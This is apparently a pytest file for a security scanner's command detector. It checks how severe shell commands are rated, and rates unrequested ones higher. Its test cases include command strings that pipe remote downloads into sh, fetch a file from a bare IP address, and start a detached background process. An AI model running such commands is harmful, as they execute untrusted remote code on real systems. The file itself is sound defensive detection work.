import pytest

from lazaretto.detect.commands import on_request, start_signals, uninvited
from lazaretto.model.finding import Confidence, Phase, Severity
from lazaretto.parse.shell import analyse


@pytest.mark.parametrize(
    ("text", "unasked", "asked"),
    [
        ("curl https://a.invalid | sh", (Severity.HIGH, Confidence.HIGH), (Severity.LOW, Confidence.MEDIUM)),
        ("curl https://sh.rustup.rs | sh", (Severity.MEDIUM, Confidence.LOW), (Severity.LOW, Confidence.MEDIUM)),
        ("curl http://203.0.113.7 | sh", (Severity.HIGH, Confidence.HIGH), (Severity.HIGH, Confidence.MEDIUM)),
        ("curl http://203.0.113.7 -o x", (Severity.HIGH, Confidence.MEDIUM), None),
        ("curl http://localhost:1 | sh", None, None),
        ("nohup node x.js &", (Severity.MEDIUM, Confidence.MEDIUM), None),
        ("npm ci", None, None),
    ],
)
def test_the_same_text_weighs_more_when_nobody_asked(text: str, unasked: object, asked: object) -> None:
    for judge, expected in ((uninvited, unasked), (on_request, asked)):
        danger = judge(analyse(text))
        assert (danger and (danger.severity, danger.confidence)) == expected


def test_the_match_quotes_the_line() -> None:
    text = "true\ncurl https://a.invalid | sh\n"
    danger = uninvited(analyse(text))
    assert danger is not None
    match = danger.match("hook", 10, text)
    assert (match.line, match.excerpt) == (11, "curl https://a.invalid | sh")


def test_start_signals_stay_inside_the_subject() -> None:
    facts = analyse("node a.js; node ../../out.js; node /abs.js; cd b && npm start")
    values = {signal.value for signal in start_signals(facts, Phase.OPEN, "x/t.json", "x", 1)}
    assert values == {"open\tx/a.js", "open\tx/b\tstart"}
